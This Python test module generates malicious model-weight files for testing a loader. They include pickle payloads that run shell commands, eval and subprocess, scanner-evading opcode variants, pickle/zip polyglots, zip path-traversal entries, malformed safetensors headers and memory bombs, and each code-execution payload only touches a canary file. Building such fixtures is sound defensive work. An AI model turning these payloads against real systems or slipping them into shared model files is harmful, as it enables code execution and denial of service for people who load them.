"""Malicious weight files, made when a test runs: what each would do to a reader that trusts it.

In: the path of a canary, which a file that gets to run something creates. Out: name -> `Attack`. Nothing malicious is kept as
a file in the repository. Sources of the ideas: Composer's and fickling's tests, the advisories of picklescan and torch
(CVE-2025-1716, CVE-2025-10155 to -10157, CVE-2025-32434), Detectron2's unpickling of `.pkl` [specification 7.2].
"""

from __future__ import annotations

import functools
import io
import marshal
import os
import pickle
import pickletools
import struct
import sys
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import numpy as np
import torch

HEAD = b"\x80\x02"


@dataclass(frozen=True)
class Attack:
    """content: the file. runs_under: which trusting reader lets it create the canary: "pickle", "torch", or "" (a bomb, or a
    trap that needs another hole)."""

    content: bytes
    runs_under: str = ""


class Reduced:
    """An object whose pickle calls `function(*arguments)` on loading."""

    def __init__(self, function: Callable[..., Any], *arguments: Any) -> None:
        self.function, self.arguments = function, arguments

    def __reduce__(self) -> Any:
        return self.function, self.arguments


def body(value: Any) -> bytes:
    """The operations that make `value`."""
    return pickle.dumps(value, protocol=2)[2:-1]


def call(module: str, name: str, *arguments: Any) -> bytes:
    """A pickle fragment that calls module.name(*arguments)."""
    return b"c%s\n%s\n" % (module.encode(), name.encode()) + body(arguments) + b"R"


def calls(canary: str) -> dict[str, bytes]:
    """Fragments that create `canary` with one function of Python, numpy or torch each."""
    touch = f"open({canary!r}, 'w').close()"
    shell = f"touch {canary}"
    nested = HEAD + call("posix", "system", shell) + b"."
    code = marshal.dumps(compile(touch, "x", "exec"))
    return {
        "os.system": call("posix", "system", shell),
        "os.system by its other name": call("os", "system", shell),
        "os.mkdir": call("os", "mkdir", canary),
        "os.makedirs": call("os", "makedirs", canary),
        "os.mknod": call("os", "mknod", canary),
        "os.open": call("os", "open", canary, os.O_CREAT | os.O_WRONLY),
        "os.symlink": call("os", "symlink", sys.executable, canary),
        "os.spawnlp": call("os", "spawnlp", os.P_WAIT, "touch", "touch", canary),
        "subprocess.call": call("subprocess", "call", ["touch", canary]),
        "subprocess.run": call("subprocess", "run", ["touch", canary]),
        "subprocess.check_output": call("subprocess", "check_output", ["touch", canary]),
        "subprocess.getoutput": call("subprocess", "getoutput", shell),
        "eval": call("builtins", "eval", touch),
        "exec": call("builtins", "exec", touch),
        "eval of Python 2": call("__builtin__", "eval", touch),
        "open": call("builtins", "open", canary, "w"),
        "io.open": call("io", "open", canary, "w"),
        "codecs.open": call("codecs", "open", canary, "w"),
        "gzip.open": call("gzip", "open", canary, "w"),
        "bz2.open": call("bz2", "open", canary, "w"),
        "lzma.open": call("lzma", "open", canary, "w"),
        "tarfile.open": call("tarfile", "open", canary, "w"),
        "zipfile.ZipFile": call("zipfile", "ZipFile", canary, "w"),
        "logging.FileHandler": call("logging", "FileHandler", canary),
        "shutil.copy": call("shutil", "copy", __file__, canary),
        "pathlib.Path.touch": body(Reduced(Path.touch, Path(canary))),
        "timeit": call("timeit", "timeit", "pass", touch),
        "cProfile.run": call("cProfile", "run", touch, canary),
        "pickle.loads": call("pickle", "loads", nested),
        "_pickle.loads": call("_pickle", "loads", nested),
        "marshal and exec": b"c__builtin__\nexec\n" + call("marshal", "loads", code) + b"\x85R",
        "numpy.save": call("numpy", "save", canary, [1]),
        "numpy.savetxt": call("numpy", "savetxt", canary, [1]),
        "numpy.memmap": call("numpy", "memmap", canary, "uint8", "w+", 0, 4),
        "numpy's runstring": call("numpy.testing._private.utils", "runstring", touch, {}),
        "torch.save": call("torch", "save", 1, canary),
        "torch's nested load": call("torch.storage", "_load_from_bytes", old_torch(call("posix", "system", shell))),
        "functools.partial": b"c_functools\npartial\ncposix\nsystem\n" + body(shell) + b"\x86R)R",
        "map of eval": b"c__builtin__\nlist\nc__builtin__\nmap\nc__builtin__\neval\n" + body([touch]) + b"\x86R\x85R",
        "an array of objects": body(np.array([Reduced(os.system, shell)], dtype=object)),
    }


def old_torch(fragment: bytes) -> bytes:
    """A torch file of before 1.6 that holds what `fragment` makes."""
    plain = io.BytesIO()
    torch.save({"w": torch.zeros(2)}, plain, _use_new_zipfile_serialization=False)
    content = plain.getvalue()
    start = _nth_end(content, 3)
    end = _nth_end(content, 4)
    return content[:start] + HEAD + b"(" + body("x") + fragment + b"d." + content[end:]


def _nth_end(content: bytes, count: int) -> int:
    stream = io.BytesIO(content)
    for _ in range(count):
        for _ in pickletools.genops(stream):
            pass
    return stream.tell()


def torch_zip(fragment: bytes, *, name: str = "archive/data.pkl", compress: int = zipfile.ZIP_STORED) -> bytes:
    """A torch zip whose data.pkl is {"x": what `fragment` makes}."""
    return zipped({name: HEAD + b"(" + body("x") + fragment + b"d."}, compress=compress)


def zipped(members: dict[str, bytes], *, compress: int = zipfile.ZIP_STORED) -> bytes:
    """A zip with torch's small records and `members`."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", compress) as archive:
        for name, data in {**members, "archive/byteorder": b"little", "archive/version": b"3\n"}.items():
            archive.writestr(name, data)
    return stream.getvalue()


def pickled(fragment: bytes) -> bytes:
    """A pickle of {"model": what `fragment` makes}."""
    return HEAD + b"(" + body("model") + fragment + b"d."


def attacks(canary: str) -> dict[str, Attack]:
    """All of them, each its own file."""
    found = {f"pickle: {name}": Attack(pickled(fragment), "pickle") for name, fragment in calls(canary).items()}
    for name in ("os.system", "eval", "pathlib.Path.touch", "pickle.loads", "torch's nested load", "numpy.save"):
        fragment = calls(canary)[name]
        found[f"torch zip: {name}"] = Attack(torch_zip(fragment), "torch")
        found[f"old torch: {name}"] = Attack(old_torch(fragment), "torch")
    return found | opcodes(canary) | containers(canary) | bombs()


def opcodes(canary: str) -> dict[str, Attack]:
    """The same call through every operation that can make one."""
    shell = f"touch {canary}".encode()
    system = b"\x8c\x05posix\x8c\x06system\x93"
    text = b"\x8c" + bytes([len(shell)]) + shell
    return {
        "opcode: protocol 0": Attack(b"(dp0\nS'model'\ncposix\nsystem\n(S'" + shell + b"'\ntRs.", "pickle"),
        "opcode: INST": Attack(b"(S'" + shell + b"'\niposix\nsystem\n.", "pickle"),
        "opcode: OBJ": Attack(b"(cposix\nsystem\nS'" + shell + b"'\no.", "pickle"),
        "opcode: STACK_GLOBAL": Attack(b"\x80\x04" + system + text + b"\x85R.", "pickle"),
        "opcode: memoised": Attack(b"\x80\x04" + system + b"\x94\x30" + text + b"\x94\x30h\x00h\x01\x85R.", "pickle"),
        "opcode: then a good pickle": Attack(HEAD + call("posix", "system", shell.decode()) + b"0}.", "pickle"),
        "opcode: BUILD of a class": Attack(pickled(b"cnumpy\ndtype\n(N}" + body("__init__") + system + b"stb")),
        "opcode: BUILD of a function": Attack(
            pickled(b"c_codecs\nencode\n(N}" + body("__call__") + b"cposix\nsystem\nstb")
        ),
        "opcode: BUILD of a record": Attack(
            pickled(b"clogging\nFormatter\n)\x81(N}" + body("__setstate__") + body("__reduce__") + b"stb")
        ),
        "opcode: NEWOBJ": Attack(pickled(b"clogging.handlers\nWatchedFileHandler\n" + body((canary,)) + b"\x81")),
        "opcode: NEWOBJ_EX": Attack(
            b"\x80\x04}X\x01\x00\x00\x00xclogging.handlers\nWatchedFileHandler\n)"
            + body({"filename": canary})
            + b"\x92s."
        ),
        "opcode: getattr of a module": Attack(
            pickled(
                b"c__builtin__\ngetattr\nctorch\nos\n" + body("system") + b"\x86R" + body(shell.decode()) + b"\x85R"
            ),
            "pickle",
        ),
        "opcode: dotted name": Attack(b"\x80\x04\x8c\x05numpy\x8c\x10ctypeslib.os.sys\x93."),
        "opcode: persistent id": Attack(HEAD + body("posix.system") + b"Q."),
        "opcode: extension": Attack(HEAD + b"\x82\x01."),
        "opcode: buffer": Attack(b"\x80\x05\x97."),
    }


def containers(canary: str) -> dict[str, Attack]:
    """Files that are two things at once, or whose parts disagree."""
    evil = call("posix", "system", f"touch {canary}")
    good = io.BytesIO()
    torch.save({"model": {"w": torch.arange(64.0)}}, good)
    whole = good.getvalue()
    at = whole.index(torch.arange(64.0).numpy().tobytes())
    twice = io.BytesIO()
    with zipfile.ZipFile(twice, "w") as archive:
        archive.writestr("archive/data.pkl", HEAD + b"}.")
        archive.fp.write(b"")  # type: ignore[union-attr]
        archive.NameToInfo.clear()
        archive.writestr("archive/data.pkl", pickled(evil))
    return {
        "polyglot: pickle, then zip": Attack(pickled(evil) + whole, "pickle"),
        "polyglot: zip, then pickle": Attack(whole + pickled(evil)),
        "polyglot: zip with a long comment": Attack(whole[:-2] + struct.pack("<H", 40) + pickled(evil)[:40].ljust(40)),
        "polyglot: two zips": Attack(torch_zip(evil) + whole),
        "polyglot: old torch, then zip": Attack(old_torch(evil) + whole, "torch"),
        "zip: data.pkl twice": Attack(twice.getvalue()),
        "zip: names lead out": Attack(zipped({"archive/data.pkl": HEAD + b"}.", f"../../../../../..{canary}": b"x"})),
        "zip: absolute name": Attack(zipped({"archive/data.pkl": HEAD + b"}.", canary: b"x"})),
        "zip: data.pkl leads out": Attack(torch_zip(evil, name="../archive/data.pkl")),
        "zip: compressed": Attack(torch_zip(evil, compress=zipfile.ZIP_DEFLATED), "torch"),
        "zip: two data.pkl in two folders": Attack(
            zipped({"archive/data.pkl": HEAD + b"}.", "other/data.pkl": pickled(evil)})
        ),
        "zip: TorchScript": Attack(zipped({"archive/data.pkl": HEAD + b"}.", "archive/constants.pkl": pickled(evil)})),
        "zip: headers disagree": Attack(whole[:60].replace(b"data.pkl", b"evil.pkl") + whole[60:]),
        "zip: index points elsewhere": Attack(
            whole.replace(b"PK\x05\x06\x00\x00\x00\x00", b"PK\x05\x06\x00\x00\x00\x01")
        ),
        "zip: a wrong weight": Attack(whole[: at + 9] + bytes([whole[at + 9] ^ 64]) + whole[at + 10 :]),
        "safetensors: huge header": Attack(struct.pack("<Q", 1 << 40) + b'{"a":{}}'),
        "safetensors: outside": Attack(_safetensors('{"a":{"dtype":"F32","shape":[64],"data_offsets":[0,256]}}', 4)),
        "safetensors: overlapping": Attack(
            _safetensors(
                '{"a":{"dtype":"U8","shape":[4],"data_offsets":[0,4]},"b":{"dtype":"U8","shape":[4],"data_offsets":[2,6]}}',
                6,
            )
        ),
        "safetensors: one name twice": Attack(
            _safetensors(
                '{"a":{"dtype":"U8","shape":[4],"data_offsets":[0,4]},"a":{"dtype":"U8","shape":[4],"data_offsets":[0,4]}}',
                4,
            )
        ),
        "safetensors: deep": Attack(_safetensors('{"a":' * 3000 + "1" + "}" * 3000, 4)),
    }


def _safetensors(header: str, size: int) -> bytes:
    return struct.pack("<Q", len(header)) + header.encode() + bytes(size)


def _tensor_zip(tensor: bytes, data: bytes = bytes(4)) -> bytes:
    return zipped({"archive/data.pkl": pickled(tensor), "archive/data/0": data})


def _tensor(numel: int, offset: int, size: Any, stride: Any) -> bytes:
    storage = b"(" + body("storage") + b"ctorch\nFloatStorage\n" + body("0") + body("cpu") + body(numel) + b"tQ"
    rest = body(offset) + body(size) + body(stride) + b"\x89ccollections\nOrderedDict\n)R"
    return b"ctorch._utils\n_rebuild_tensor_v2\n(" + storage + rest + b"tR"


@functools.cache
def bombs() -> dict[str, Attack]:
    """Small files that ask for much memory or time."""
    laughs = b"]" + b"".join(b"q%c](" % i + b"h%c" % i * 40 + b"e" for i in range(12))
    return {
        "bomb: bytes of a number": Attack(pickled(call("builtins", "bytes", 1 << 40))),
        "bomb: bytearray of a number": Attack(torch_zip(call("__builtin__", "bytearray", 1 << 36))),
        "bomb: range": Attack(pickled(b"c__builtin__\nlist\n" + call("__builtin__", "range", 1 << 40) + b"\x85R")),
        "bomb: numpy.zeros": Attack(pickled(call("numpy", "zeros", 1 << 40))),
        "bomb: ndarray of a shape": Attack(pickled(call("numpy", "ndarray", (1 << 36,)))),
        "bomb: torch.Tensor of a size": Attack(torch_zip(call("torch", "FloatTensor", 1 << 36))),
        "bomb: memo": Attack(HEAD + b"}r\xff\xff\xff\x7f."),
        "bomb: memo in a torch zip": Attack(zipped({"archive/data.pkl": HEAD + b"}r\xff\xff\xff\x7f."})),
        "bomb: memo in text": Attack(b"(dp99999999999\n."),
        "bomb: billion laughs": Attack(pickled(laughs)),
        "bomb: billion laughs of dictionaries": Attack(
            pickled(
                b"}"
                + b"".join(b"q%c}(" % i + b"".join(b"K%ch%c" % (n, i) for n in range(40)) + b"u" for i in range(12))
            )
        ),
        "bomb: a list in itself": Attack(HEAD + b"]q\x00h\x00a."),
        "bomb: deep": Attack(HEAD + b"]" * 100_000 + b"a" * 99_999 + b"."),
        "bomb: a deep tuple as a key": Attack(HEAD + b"})" + b"\x85" * 1_000_000 + b"K\x01s."),
        "bomb: names": Attack(HEAD + b"".join(b"cmodule\nname%d\n0" % i for i in range(120_000)) + b"}."),
        "bomb: operations": Attack(HEAD + b"N0" * 600_000 + b"}."),
        "bomb: frame": Attack(b"\x80\x04\x95\xff\xff\xff\xff\xff\xff\xff\x7f}."),
        "bomb: text of 4 GB": Attack(HEAD + b"X\xff\xff\xff\xffabc."),
        "bomb: bytes of 2**63": Attack(b"\x80\x04\x8e\xff\xff\xff\xff\xff\xff\xff\x7fabc."),
        "bomb: number": Attack(b"I" + b"9" * 100_000 + b"\n."),
        "bomb: expanded tensor": Attack(_tensor_zip(_tensor(1, 0, (10**9,), (0,)))),
        "bomb: tensor beyond its storage": Attack(_tensor_zip(_tensor(1, 0, (1000,), (1,)))),
        "bomb: tensor before its storage": Attack(_tensor_zip(_tensor(1, -5, (1,), (1,)))),
        "bomb: negative stride": Attack(_tensor_zip(_tensor(4, 3, (4,), (-1,)), bytes(16))),
        "bomb: negative size": Attack(_tensor_zip(_tensor(1, 0, (-1,), (1,)))),
        "bomb: storage that claims more": Attack(_tensor_zip(_tensor(10**9, 0, (10**9,), (1,)))),
        "bomb: sizes that overflow": Attack(_tensor_zip(_tensor(1, 0, (1 << 40, 1 << 40), (1, 1)))),
    }
